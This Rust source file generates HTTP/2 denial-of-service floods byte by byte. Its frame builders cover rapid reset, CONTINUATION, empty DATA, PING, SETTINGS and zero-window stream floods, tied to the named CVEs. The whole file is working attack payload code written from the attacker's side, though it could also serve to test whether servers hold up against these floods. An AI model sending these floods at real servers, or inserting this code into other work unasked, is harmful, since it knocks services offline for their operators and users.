//! Floods of HTTP/2 frames as an attacker writes them (RFC 9113): nothing is checked and no answer is waited for.

/// What a client of HTTP/2 begins with.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Frames that are written at once.
const BATCH: u32 = 200;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// Requests that are taken back as soon as they are made (CVE-2023-44487).
    RapidReset,
    /// A header list without an end (CVE-2024-27316).
    Continuation,
    /// Pieces of a body that hold nothing (CVE-2019-9518).
    EmptyData,
    /// Questions whose answers nobody reads (CVE-2019-9512).
    Ping,
    /// Settings whose acknowledgements nobody reads (CVE-2019-9515).
    Settings,
    /// Requests for a body that the client gives no window for.
    Streams,
}

impl Flood {
    pub const ALL: [Flood; 6] = [Flood::RapidReset, Flood::Continuation, Flood::EmptyData, Flood::Ping, Flood::Settings, Flood::Streams];

    /// Whether the attacker reads what it is answered.
    pub fn reads(self) -> bool {
        !matches!(self, Flood::Ping | Flood::Settings)
    }

    /// The beginning of the connection.
    pub fn opening(self, path: &str) -> Vec<u8> {
        // SETTINGS_INITIAL_WINDOW_SIZE: nothing may be sent.
        let settings: &[u8] = if self == Flood::Streams { &[0, 4, 0, 0, 0, 0] } else { &[] };
        let mut bytes = [PREFACE, &frame(SETTINGS, 0, 0, settings)].concat();
        match self {
            Flood::Continuation => bytes.extend(frame(HEADERS, END_STREAM, 1, &request(0x82, path))),
            // 0x83 is POST.
            Flood::EmptyData => bytes.extend(frame(HEADERS, END_HEADERS, 1, &request(0x83, path))),
            Flood::RapidReset | Flood::Ping | Flood::Settings | Flood::Streams => {}
        }
        bytes
    }

    /// The next frames: batch number `turn`, from 0.
    pub fn batch(self, turn: u32, path: &str) -> Vec<u8> {
        let one = |number: u32| match self {
            Flood::RapidReset => {
                let stream = 2 * (turn * BATCH + number) + 1;
                let get = frame(HEADERS, END_STREAM | END_HEADERS, stream, &request(0x82, path));
                // CANCEL
                [get, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
            }
            // A literal header, name and value of a hundred bytes.
            Flood::Continuation => frame(CONTINUATION, 0, 1, &[&[0, 100][..], &[b'x'; 100], &[100], &[b'y'; 100]].concat()),
            Flood::EmptyData => frame(DATA, 0, 1, &[]),
            Flood::Ping => frame(PING, 0, 0, &[7; 8]),
            Flood::Settings => frame(SETTINGS, 0, 0, &[]),
            Flood::Streams => frame(HEADERS, END_STREAM | END_HEADERS, 2 * (turn * BATCH + number) + 1, &request(0x82, path)),
        };
        (0..BATCH).flat_map(one).collect()
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A header block (RFC 7541) of the method, `http`, the path and an authority; no entry is remembered.
fn request(method: u8, path: &str) -> Vec<u8> {
    assert!(path.len() < 127, "its length fits into one byte");
    [&[method, 0x86, 0x04, path.len() as u8][..], path.as_bytes(), &[0x01, 1, b'x']].concat()
}
